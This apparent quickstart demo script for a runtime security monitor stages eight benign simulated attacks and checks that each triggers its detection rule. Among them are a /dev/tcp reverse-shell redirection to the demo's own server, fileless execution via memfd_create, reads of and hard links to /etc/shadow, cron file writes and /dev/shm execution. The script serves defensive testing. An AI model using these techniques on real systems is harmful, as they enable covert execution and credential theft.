#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# demo.sh - harmless attacks for quickstart.sh --demo, which sources it. Each has the rule that must
# detect it, a description, and a function that performs it in the scratch folder $dir.
# shellcheck disable=SC2154 # quickstart.sh sets dir, http, bold, dim, red, green, plain
attacks=()
attack() { attacks+=("$1|$2|$3"); }

attack 'Sensitive file read' 'a program that has no business with it reads /etc/shadow' do_shadow
do_shadow() { head -c 1 /etc/shadow >/dev/null; }

attack 'Shell spawned by a server' 'a web server starts a shell' do_server_shell
do_server_shell() {
	cp /bin/bash "$dir/nginx"
	"$dir/nginx" -c 'sh -c :; :'
}

attack 'Fileless execution' 'a program runs from memory, without a file' do_memfd
do_memfd() {
	perl -e 'my $name = "x"; my $fd = syscall(319, $name, 0); open(my $in, "<", "/bin/true"); binmode $in;
		open(my $out, ">&=", $fd); binmode $out; local $/; print $out scalar <$in>; $out->flush;
		exec {"/proc/self/fd/$fd"} "true" if fork() == 0; wait' -MIO::Handle
}

attack 'Shell redirected to a network connection' "a shell's input and output become a network connection" do_reverse
do_reverse() {
	bash -c "exec 5<>/dev/tcp/${http%:*}/${http##*:}; sh -c 'exec 0<&5 1>&5; :'"
}

attack 'Log truncated' 'a log file is emptied' do_log
do_log() {
	local log=/var/log/mews-quickstart.$$.log
	echo line >"$log"
	: >"$log"
	rm -f "$log"
}

attack 'Hard link to a sensitive file' 'a second name is made for /etc/shadow' do_link
do_link() {
	ln /etc/shadow "$dir/second-name" 2>/dev/null || true
	rm -f "$dir/second-name"
}

attack 'Scheduled task written' 'a file appears in /etc/cron.d' do_cron
do_cron() {
	mkdir -p /etc/cron.d
	local file=/etc/cron.d/mews-quickstart-$$
	echo '# nothing' >"$file"
	rm -f "$file"
}

attack 'Execution from shared memory' 'a program runs from /dev/shm' do_shm
do_shm() {
	local file=/dev/shm/mews-quickstart.$$
	cp /bin/true "$file"
	"$file"
	rm -f "$file"
}

# Make alert text safe for the terminal: show control, bidirectional and invisible characters as
# U+FFFD.
safe='def safe: explode | map(if . < 32 or (. >= 127 and . < 160) or . == 173 or . == 1564 or (. >= 8203 and . <= 8207)
	or (. >= 8232 and . <= 8238) or (. >= 8288 and . <= 8303) or . == 65279 or (. >= 65529 and . <= 65531)
	or (. >= 917504 and . <= 921599) then 65533 else . end) | implode;'

# Find the first alert of rule $1 not older than $2 (realtime ns): print its latency in ms and its
# output.
seen() {
	jq -rR --arg rule "$1" --argjson since "$2" "$safe"'
		split("\t") as [$at, $json] | ($json | fromjson? // empty) | select(.rule == $rule)
		| .output_fields["evt.time"] as $t | select($t >= $since)
		| "\((($at | tonumber) * 1e3 - $t / 1e6) * 10 | round / 10)\t\(.priority)\t\(.output | safe)"' "$dir/alerts.tsv" 2>/dev/null | sed -n 1p
}

demo_run() {
	local missed=0 rule what fn since hit until n=0
	printf '\n%sPerforming %d harmless attacks.%s\n' "$bold" "${#attacks[@]}" "$plain"
	for a in "${attacks[@]}"; do
		IFS='|' read -r rule what fn <<<"$a"
		n=$((n + 1))
		printf '\n%s%d. %s%s\n' "$bold" "$n" "$what" "$plain"
		since=${EPOCHREALTIME/./}000
		"$fn" || true
		hit=''
		until=$((SECONDS + 5))
		while hit=$(seen "$rule" "$since"); [ -z "$hit" ] && [ "$SECONDS" -lt "$until" ]; do sleep 0.05; done
		if [ -n "$hit" ]; then
			IFS=$'\t' read -r ms priority output <<<"$hit"
			printf '   %sseen%s  %s ms  %s: %s%s%s\n   %s%.300s%s\n' "$green" "$plain" "$ms" "$priority" "$bold" "$rule" "$plain" "$dim" "$output" "$plain"
		else
			printf '   %snot seen within 5 s%s  expected: %s\n' "$red" "$plain" "$rule"
			missed=$((missed + 1))
		fi
	done
	printf '\n%s%d of %d attacks seen.%s\n' "$bold" "$((n - missed))" "$n" "$plain"
	[ "$missed" = 0 ]
}
